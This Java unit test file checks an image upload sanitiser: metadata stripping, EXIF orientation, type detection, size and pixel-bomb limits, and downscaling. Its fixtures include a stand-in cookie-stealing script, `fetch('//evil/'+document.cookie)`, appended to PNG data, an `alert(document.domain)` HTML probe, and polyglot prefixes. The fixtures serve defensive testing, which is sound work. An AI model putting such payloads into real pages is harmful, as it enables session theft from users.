package io.stockade.command.inventory;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.stockade.command.inventory.ImageSanitiser.ImageRejectedException;
import io.stockade.command.inventory.ImageSanitiser.Sanitised;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.awt.image.DataBufferByte;
import java.awt.image.IndexColorModel;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.zip.CRC32;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;

class ImageSanitiserTest {

    private static final String MARKER = "STOCKADE-HIDDEN-GPS-51.5072N-0.1276W";

    /**
     * 16x8 CMYK JPEG written by ImageMagick 6.9 (Adobe APP14, YCCK, inverted like Photoshop's): left
     * half sRGB (200,40,30), right half (20,60,180). Real-world bytes, because a JDK-written CMYK file
     * would only test the JDK against itself.
     */
    private static final String CMYK_JPEG =
            "/9j/7gAOQWRvYmUAZAAAAAAC/9sAQwACAQEBAQECAQEBAgICAgIEAwICAgIFBAQDBAYFBgYGBQYGBgcJCAYHCQcGBggL"
                    + "CAkKCgoKCgYICwwLCgwJCgoK/9sAQwECAgICAgIFAwMFCgcGBwoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoK"
                    + "CgoKCgoKCgoKCgoKCgoKCgoK/8AAFAgACAAQBAERAAIRAQMRAQQRAP/EABUAAQEAAAAAAAAAAAAAAAAAAAcJ/8QAFBAB"
                    + "AAAAAAAAAAAAAAAAAAAAAP/EABYBAQEBAAAAAAAAAAAAAAAAAAoICf/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAOBAEA"
                    + "AhEDEQQAAD8AQFSMY1IDAO+SIL3/2Q==";

    private final ImageSanitiser sanitiser = new ImageSanitiser();

    // ---- stripping hidden content -------------------------------------------------------------

    @Test
    void exifAndCommentsInAJpegDoNotSurvive() throws Exception {
        byte[] clean = jpeg(opaque(64, 48, new Color(30, 120, 200)));
        byte[] tainted = insertAfterSoi(clean, exifApp1(MARKER), comSegment(MARKER));
        assertThat(contains(tainted, ascii(MARKER))).isTrue();
        assertThat(ImageIO.read(new ByteArrayInputStream(tainted)))
                .as("fixture must be a valid JPEG")
                .isNotNull();

        Sanitised result = sanitiser.sanitise(tainted);

        assertThat(result.contentType()).isEqualTo("image/jpeg");
        assertThat(result.width()).isEqualTo(64);
        assertThat(result.height()).isEqualTo(48);
        assertThat(contains(result.bytes(), ascii(MARKER))).isFalse();
        assertThat(contains(result.bytes(), ascii("Exif"))).isFalse();
        assertThat(jpegMarkersBeforeScan(result.bytes())).isSubsetOf(0xE0, 0xDB, 0xC0, 0xC4, 0xDD, 0xDA);
        assertPixel(decode(result), 10, 10, new Color(30, 120, 200), 6);
    }

    @Test
    void textChunksAndTrailingDataInAPngDoNotSurvive() throws Exception {
        byte[] trailing = ascii("<script>fetch('//evil/'+document.cookie)</script>PK\u0003\u0004" + MARKER);
        for (BufferedImage source : List.of(opaque(40, 30, Color.ORANGE), translucent(40, 30))) {
            byte[] tainted = concat(insertChunkAfterIhdr(png(source), "tEXt", ascii("Comment\0" + MARKER)), trailing);
            assertThat(ImageIO.read(new ByteArrayInputStream(tainted)))
                    .as("fixture must be a valid PNG")
                    .isNotNull();

            Sanitised result = sanitiser.sanitise(tainted);

            assertThat(contains(result.bytes(), ascii(MARKER))).isFalse();
            assertThat(contains(result.bytes(), ascii("script"))).isFalse();
            assertThat(result.width()).isEqualTo(40);
            assertThat(result.height()).isEqualTo(30);
            if (result.contentType().equals("image/png")) {
                assertThat(pngChunkTypes(result.bytes())).isSubsetOf("IHDR", "PLTE", "tRNS", "IDAT", "IEND");
            }
        }
    }

    @Test
    void opaquePngIsReencodedAsJpegAndTransparentPngStaysPng() throws Exception {
        assertThat(sanitiser.sanitise(png(opaque(20, 20, Color.GREEN))).contentType())
                .isEqualTo("image/jpeg");

        Sanitised result = sanitiser.sanitise(png(translucent(20, 20)));

        assertThat(result.contentType()).isEqualTo("image/png");
        assertThat(result.bytes()).startsWith(0x89, 'P', 'N', 'G');
        BufferedImage out = decode(result);
        assertThat(out.getColorModel().hasAlpha()).isTrue();
        assertThat(out.getRGB(0, 0) >>> 24).isZero();
        assertThat(out.getRGB(15, 15)).isEqualTo(0x80FF0000);
        assertThat(out.getRGB(5, 15)).isEqualTo(0xFF0000FF);
    }

    @Test
    void palettePngWithTransparentIndexKeepsItsTransparency() throws Exception {
        byte[] r = {0, (byte) 255};
        byte[] g = {0, 0};
        byte[] b = {0, 0};
        byte[] a = {0, (byte) 255};
        BufferedImage indexed =
                new BufferedImage(10, 10, BufferedImage.TYPE_BYTE_INDEXED, new IndexColorModel(1, 2, r, g, b, a));
        indexed.getRaster().setSample(7, 7, 0, 1);

        Sanitised result = sanitiser.sanitise(png(indexed));

        assertThat(result.contentType()).isEqualTo("image/png");
        BufferedImage out = decode(result);
        assertThat(out.getRGB(0, 0) >>> 24).isZero();
        assertThat(out.getRGB(7, 7)).isEqualTo(0xFFFF0000);
    }

    @Test
    void greyscalePngKeepsItsTone() throws Exception {
        BufferedImage grey = new BufferedImage(16, 16, BufferedImage.TYPE_BYTE_GRAY);
        Arrays.fill(((DataBufferByte) grey.getRaster().getDataBuffer()).getData(), (byte) 100);

        Sanitised result = sanitiser.sanitise(png(grey));

        assertThat(result.contentType()).isEqualTo("image/jpeg");
        assertPixel(decode(result), 8, 8, new Color(100, 100, 100), 3);
    }

    @Test
    void cmykJpegIsConvertedToRgbWithFaithfulColours() throws Exception {
        Sanitised result = sanitiser.sanitise(Base64.getDecoder().decode(CMYK_JPEG));

        assertThat(result.contentType()).isEqualTo("image/jpeg");
        assertThat(result.width()).isEqualTo(16);
        assertThat(result.height()).isEqualTo(8);
        BufferedImage out = decode(result);
        assertPixel(out, 2, 4, new Color(200, 40, 30), 10);
        assertPixel(out, 13, 4, new Color(20, 60, 180), 10);
    }

    @Test
    void exifOrientationIsBakedIntoThePixelsBeforeTheTagIsDropped() throws Exception {
        // Stored landscape, red left / blue right; orientation 6 means "rotate 90 degrees clockwise to view".
        byte[] stored = jpeg(halves(40, 20, Color.RED, Color.BLUE));

        Sanitised rotated = sanitiser.sanitise(insertAfterSoi(stored, exifOrientation(6, false)));

        assertThat(rotated.width()).isEqualTo(20);
        assertThat(rotated.height()).isEqualTo(40);
        BufferedImage out = decode(rotated);
        assertPixel(out, 10, 5, Color.RED, 40);
        assertPixel(out, 10, 35, Color.BLUE, 40);
        assertThat(contains(rotated.bytes(), ascii("Exif"))).isFalse();

        // Little-endian EXIF, orientation 3 (upside down): red ends up on the right.
        BufferedImage flipped = decode(sanitiser.sanitise(insertAfterSoi(stored, exifOrientation(3, true))));
        assertThat(flipped.getWidth()).isEqualTo(40);
        assertPixel(flipped, 35, 10, Color.RED, 40);
        assertPixel(flipped, 5, 10, Color.BLUE, 40);
    }

    @Test
    void everyExifOrientationMapsTheStoredTopLeftCornerCorrectly() throws Exception {
        // Where the stored image's top-left pixel must appear, per EXIF orientation (display w=20, h=40 when rotated).
        int[][] expectedCorner = {{0, 0}, {39, 0}, {39, 19}, {0, 19}, {0, 0}, {19, 0}, {19, 39}, {0, 39}};
        BufferedImage stored = opaque(40, 20, Color.WHITE);
        for (int y = 0; y < 6; y++) {
            for (int x = 0; x < 6; x++) {
                stored.setRGB(x, y, 0x000000);
            }
        }
        byte[] png = png(stored);
        for (int orientation = 1; orientation <= 8; orientation++) {
            BufferedImage shown =
                    ImageSanitiser.ExifOrientation.apply(ImageIO.read(new ByteArrayInputStream(png)), orientation);
            int[] corner = expectedCorner[orientation - 1];
            assertThat(shown.getRGB(corner[0], corner[1]) & 0xFFFFFF)
                    .as("orientation %d", orientation)
                    .isZero();
            assertThat(shown.getWidth()).isEqualTo(orientation >= 5 ? 20 : 40);
        }
    }

    @Test
    void malformedExifIsTreatedAsUpright() throws Exception {
        byte[] stored = jpeg(opaque(40, 20, Color.GRAY));
        byte[][] broken = {
            segment(0xE1, concat(ascii("Exif\0\0"), new byte[] {
                'M', 'M', 0, 42, 0x7F, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF
            })),
            segment(0xE1, concat(ascii("Exif\0\0"), new byte[] {'M', 'M', 0, 42, 0, 0, 0, 8, (byte) 0xFF, (byte) 0xFF
            })),
            segment(0xE1, concat(ascii("Exif\0\0"), new byte[] {'X', 'X'})),
            segment(0xE1, ascii("Exif")),
        };
        for (byte[] app1 : broken) {
            Sanitised result = sanitiser.sanitise(insertAfterSoi(stored, app1));
            assertThat(result.width()).isEqualTo(40);
            assertThat(result.height()).isEqualTo(20);
        }
    }

    // ---- type detection ---------------------------------------------------------------------------

    @Test
    void htmlRenamedToPngIsRejectedAsUnsupported() {
        byte[] html = ascii("<html><body><script>alert(document.domain)</script></body></html>");

        assertRejected(html, "unsupported-type");
    }

    @Test
    void otherFormatsAndPolyglotPrefixesAreRejectedAsUnsupported() {
        assertRejected(ascii("GIF89a\u0001\u0000\u0001\u0000"), "unsupported-type");
        assertRejected(ascii("%PDF-1.7\n"), "unsupported-type");
        assertRejected(ascii("<svg xmlns='http://www.w3.org/2000/svg'/>"), "unsupported-type");
        assertRejected(ascii("BM6\u0000\u0000\u0000"), "unsupported-type");
        assertRejected(new byte[] {(byte) 0xFF, (byte) 0xD8}, "unsupported-type");
        // Leading junk before a real signature is not the signature.
        assertRejected(concat(ascii(" "), pngQuietly(opaque(4, 4, Color.RED))), "unsupported-type");
    }

    @Test
    void webpIsRejectedWhileNoDecoderIsInstalled() {
        // The build ships no WebP decoder; adding one must come with a test that WebP is then accepted.
        assertThat(ImageIO.getImageReadersByFormatName("webp").hasNext()).isFalse();
        byte[] webp = concat(ascii("RIFF"), new byte[] {26, 0, 0, 0}, ascii("WEBPVP8L"), new byte[14]);

        ImageRejectedException e = assertRejected(webp, "unsupported-type");
        assertThat(e.getMessage()).contains("WebP").contains("decoder");
    }

    // ---- limits -----------------------------------------------------------------------------------

    @Test
    void pngHeaderClaimingFiftyThousandSquaredIsRejectedBeforeDecoding() {
        byte[] bomb = pngHeaderOnly(50_000, 50_000);

        // The body is truncated: a decode would fail as "corrupt" (or run out of memory on 2.5 G pixels),
        // so "too-many-pixels" shows the header check ran first.
        ImageRejectedException e = assertRejected(bomb, "too-many-pixels");
        assertThat(e.getMessage()).contains("50000 x 50000");
    }

    @Test
    void eitherSideOverTheLimitIsRejectedEvenWithFewPixels() {
        assertRejected(pngHeaderOnly(12_001, 1), "too-many-pixels");
        assertRejected(pngHeaderOnly(1, 12_001), "too-many-pixels");
        // 7000 x 7000 = 49 Mpx: both sides fine, the product is not.
        assertRejected(pngHeaderOnly(7_000, 7_000), "too-many-pixels");
    }

    @Test
    void jpegFrameHeaderClaimingHugeDimensionsIsRejectedBeforeDecoding() throws Exception {
        byte[] jpeg = jpeg(opaque(16, 16, Color.BLUE));
        int sof = indexOf(jpeg, new byte[] {(byte) 0xFF, (byte) 0xC0});
        assertThat(sof).isPositive();
        // SOF0: marker, length(2), precision(1), height(2), width(2)
        ByteBuffer.wrap(jpeg, sof + 5, 4).putShort((short) 60_000).putShort((short) 60_000);

        assertRejected(jpeg, "too-many-pixels");
    }

    @Test
    void uploadsOverFiveMegabytesAreRejected() {
        byte[] big = new byte[5 * 1024 * 1024 + 1];
        System.arraycopy(pngQuietly(opaque(4, 4, Color.RED)), 0, big, 0, 8);

        assertRejected(big, "too-large");
    }

    @Test
    void streamOverloadStopsReadingAtTheCap() {
        CountingEndlessStream endless = new CountingEndlessStream();

        ImageRejectedException e =
                catchThrowableOfType(ImageRejectedException.class, () -> sanitiser.sanitise(endless));

        assertThat(e.reason()).isEqualTo("too-large");
        assertThat(endless.read).isLessThanOrEqualTo(ImageSanitiser.MAX_BYTES + 1L);
    }

    @Test
    void streamOverloadSanitisesLikeTheByteArrayOne() throws Exception {
        byte[] tainted = insertAfterSoi(jpeg(opaque(30, 20, Color.PINK)), comSegment(MARKER));

        Sanitised result = sanitiser.sanitise(new ByteArrayInputStream(tainted));

        assertThat(result.contentType()).isEqualTo("image/jpeg");
        assertThat(result.width()).isEqualTo(30);
        assertThat(contains(result.bytes(), ascii(MARKER))).isFalse();
    }

    @Test
    void emptyTruncatedAndGarbledImagesAreRejectedAsCorrupt() throws Exception {
        assertRejected(new byte[0], "corrupt");
        assertRejected((byte[]) null, "corrupt");
        assertRejected(pngHeaderOnly(100, 100), "corrupt");
        assertRejected(pngHeaderOnly(0, 100), "corrupt");
        assertRejected(concat(Arrays.copyOf(pngQuietly(opaque(4, 4, Color.RED)), 8), new byte[64]), "corrupt");
        assertRejected(
                concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}, ascii("garbage".repeat(20))), "corrupt");
        byte[] jpeg = jpeg(opaque(16, 16, Color.BLUE));
        assertRejected(Arrays.copyOf(jpeg, 40), "corrupt");
    }

    // ---- downscaling ------------------------------------------------------------------------------

    @Test
    void longerSideIsScaledDownTo2048KeepingAspectRatio() throws Exception {
        Sanitised wide = sanitiser.sanitise(jpeg(opaque(4000, 1000, Color.DARK_GRAY)));
        assertThat(wide.width()).isEqualTo(2048);
        assertThat(wide.height()).isEqualTo(512);
        BufferedImage decoded = decode(wide);
        assertThat(decoded.getWidth()).isEqualTo(2048);
        assertThat(decoded.getHeight()).isEqualTo(512);

        Sanitised tall = sanitiser.sanitise(png(opaque(1000, 4000, Color.LIGHT_GRAY)));
        assertThat(tall.width()).isEqualTo(512);
        assertThat(tall.height()).isEqualTo(2048);
    }

    @Test
    void smallImagesKeepTheirSize() {
        Sanitised result = sanitiser.sanitise(pngQuietly(opaque(2048, 10, Color.WHITE)));

        assertThat(result.width()).isEqualTo(2048);
        assertThat(result.height()).isEqualTo(10);
    }

    @Test
    void veryLargeImagesAreSubsampledWhileDecodingAndKeepTheirContent() throws Exception {
        // 9000 px wide triggers decode-time subsampling; left half red, right half blue.
        BufferedImage source = opaque(9000, 1000, Color.RED);
        Graphics2D g = source.createGraphics();
        g.setColor(Color.BLUE);
        g.fillRect(4500, 0, 4500, 1000);
        g.dispose();

        Sanitised result = sanitiser.sanitise(png(source));

        assertThat(result.width()).isEqualTo(2048);
        assertThat(result.height()).isEqualTo(228);
        BufferedImage out = decode(result);
        assertPixel(out, 500, 100, Color.RED, 8);
        assertPixel(out, 1500, 100, Color.BLUE, 8);
    }

    @Test
    void downscalingKeepsTransparency() throws Exception {
        BufferedImage source = new BufferedImage(3000, 600, BufferedImage.TYPE_INT_ARGB);
        Graphics2D g = source.createGraphics();
        g.setColor(Color.GREEN);
        g.fillRect(0, 0, 1500, 600);
        g.dispose();

        Sanitised result = sanitiser.sanitise(png(source));

        assertThat(result.contentType()).isEqualTo("image/png");
        assertThat(result.width()).isEqualTo(2048);
        assertThat(result.height()).isEqualTo(410);
        BufferedImage out = decode(result);
        assertThat(out.getRGB(300, 200)).isEqualTo(0xFF00FF00);
        assertThat(out.getRGB(1800, 200) >>> 24).isZero();
    }

    // ---- helpers ----------------------------------------------------------------------------------

    private ImageRejectedException assertRejected(byte[] upload, String reason) {
        ImageRejectedException e = catchThrowableOfType(ImageRejectedException.class, () -> sanitiser.sanitise(upload));
        assertThat(e).as("expected rejection '%s'", reason).isNotNull();
        assertThat(e.reason()).isEqualTo(reason);
        assertThat(e.getMessage()).isNotBlank();
        return e;
    }

    private static BufferedImage decode(Sanitised result) throws IOException {
        BufferedImage image = ImageIO.read(new ByteArrayInputStream(result.bytes()));
        assertThat(image).isNotNull();
        assertThat(image.getWidth()).isEqualTo(result.width());
        assertThat(image.getHeight()).isEqualTo(result.height());
        return image;
    }

    private static void assertPixel(BufferedImage image, int x, int y, Color expected, int tolerance) {
        Color actual = new Color(image.getRGB(x, y), true);
        assertThat(actual.getAlpha()).isEqualTo(255);
        assertThat(Math.abs(actual.getRed() - expected.getRed()))
                .as("red of %s", actual)
                .isLessThanOrEqualTo(tolerance);
        assertThat(Math.abs(actual.getGreen() - expected.getGreen()))
                .as("green of %s", actual)
                .isLessThanOrEqualTo(tolerance);
        assertThat(Math.abs(actual.getBlue() - expected.getBlue()))
                .as("blue of %s", actual)
                .isLessThanOrEqualTo(tolerance);
    }

    private static BufferedImage opaque(int width, int height, Color colour) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(colour);
        g.fillRect(0, 0, width, height);
        g.dispose();
        return image;
    }

    private static BufferedImage halves(int width, int height, Color left, Color right) {
        BufferedImage image = opaque(width, height, left);
        Graphics2D g = image.createGraphics();
        g.setColor(right);
        g.fillRect(width / 2, 0, width - width / 2, height);
        g.dispose();
        return image;
    }

    /** APP1 with an IFD0 holding just the orientation tag (SHORT, count 1). */
    private static byte[] exifOrientation(int orientation, boolean littleEndian) {
        ByteOrder order = littleEndian ? ByteOrder.LITTLE_ENDIAN : ByteOrder.BIG_ENDIAN;
        ByteBuffer tiff = ByteBuffer.allocate(26).order(order);
        tiff.put(littleEndian ? ascii("II") : ascii("MM"))
                .putShort((short) 42)
                .putInt(8)
                .putShort((short) 1)
                .putShort((short) 0x0112)
                .putShort((short) 3)
                .putInt(1)
                .putShort((short) orientation)
                .putShort((short) 0)
                .putInt(0);
        return segment(0xE1, concat(ascii("Exif\0\0"), tiff.array()));
    }

    /** Transparent top half, opaque blue bottom-left, half-transparent red bottom-right. */
    private static BufferedImage translucent(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_ARGB);
        for (int y = height / 2; y < height; y++) {
            for (int x = 0; x < width; x++) {
                image.setRGB(x, y, x < width / 2 ? 0xFF0000FF : 0x80FF0000);
            }
        }
        return image;
    }

    private static byte[] jpeg(BufferedImage image) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        assertThat(ImageIO.write(image, "jpeg", out)).isTrue();
        return out.toByteArray();
    }

    private static byte[] png(BufferedImage image) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        assertThat(ImageIO.write(image, "png", out)).isTrue();
        return out.toByteArray();
    }

    private static byte[] pngQuietly(BufferedImage image) {
        try {
            return png(image);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** APP1 "Exif" segment with a minimal big-endian TIFF header and the marker as trailing payload. */
    private static byte[] exifApp1(String marker) {
        byte[] tiff = {'M', 'M', 0, 42, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0};
        return segment(0xE1, concat(ascii("Exif\0\0"), tiff, ascii(marker)));
    }

    private static byte[] comSegment(String text) {
        return segment(0xFE, ascii(text));
    }

    private static byte[] segment(int marker, byte[] payload) {
        int length = payload.length + 2;
        return concat(new byte[] {(byte) 0xFF, (byte) marker, (byte) (length >> 8), (byte) length}, payload);
    }

    private static byte[] insertAfterSoi(byte[] jpeg, byte[]... segments) {
        byte[] inserted = concat(segments);
        return concat(Arrays.copyOf(jpeg, 2), inserted, Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    /** Just the signature, an IHDR (8-bit RGBA) and the start of an IDAT that never finishes. */
    private static byte[] pngHeaderOnly(int width, int height) {
        byte[] ihdr = ByteBuffer.allocate(13)
                .putInt(width)
                .putInt(height)
                .put((byte) 8)
                .put((byte) 6)
                .put((byte) 0)
                .put((byte) 0)
                .put((byte) 0)
                .array();
        byte[] truncatedIdat = Arrays.copyOf(chunk("IDAT", new byte[] {0x78, (byte) 0x9C, 0, 0}), 10);
        return concat(
                new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}, chunk("IHDR", ihdr), truncatedIdat);
    }

    private static byte[] chunk(String type, byte[] data) {
        CRC32 crc = new CRC32();
        crc.update(ascii(type));
        crc.update(data);
        return ByteBuffer.allocate(12 + data.length)
                .putInt(data.length)
                .put(ascii(type))
                .put(data)
                .putInt((int) crc.getValue())
                .array();
    }

    private static byte[] insertChunkAfterIhdr(byte[] png, String type, byte[] data) {
        int afterIhdr = 8 + 8 + 13 + 4;
        return concat(Arrays.copyOf(png, afterIhdr), chunk(type, data), Arrays.copyOfRange(png, afterIhdr, png.length));
    }

    /** Chunk types in order; fails if anything follows IEND. */
    private static List<String> pngChunkTypes(byte[] png) {
        List<String> types = new ArrayList<>();
        ByteBuffer buffer = ByteBuffer.wrap(png, 8, png.length - 8);
        while (buffer.hasRemaining()) {
            int length = buffer.getInt();
            byte[] type = new byte[4];
            buffer.get(type);
            types.add(new String(type, StandardCharsets.US_ASCII));
            buffer.position(buffer.position() + length + 4);
            if (types.get(types.size() - 1).equals("IEND")) {
                assertThat(buffer.remaining()).as("bytes after IEND").isZero();
            }
        }
        return types;
    }

    /** The marker codes of every segment from SOI up to and including SOS. */
    private static List<Integer> jpegMarkersBeforeScan(byte[] jpeg) {
        List<Integer> markers = new ArrayList<>();
        int pos = 2;
        while (pos + 4 <= jpeg.length) {
            assertThat(jpeg[pos] & 0xFF).isEqualTo(0xFF);
            int marker = jpeg[pos + 1] & 0xFF;
            markers.add(marker);
            if (marker == 0xDA) {
                break;
            }
            pos += 2 + ((jpeg[pos + 2] & 0xFF) << 8 | (jpeg[pos + 3] & 0xFF));
        }
        return markers;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static boolean contains(byte[] haystack, byte[] needle) {
        return indexOf(haystack, needle) >= 0;
    }

    private static int indexOf(byte[] haystack, byte[] needle) {
        outer:
        for (int i = 0; i <= haystack.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (haystack[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }

    /** Never ends, like a hostile chunked upload; counts what was actually consumed. */
    private static final class CountingEndlessStream extends InputStream {
        long read;

        @Override
        public int read() {
            read++;
            return 0x42;
        }

        @Override
        public int read(byte[] b, int off, int len) {
            Arrays.fill(b, off, off + len, (byte) 0x42);
            read += len;
            return len;
        }
    }
}
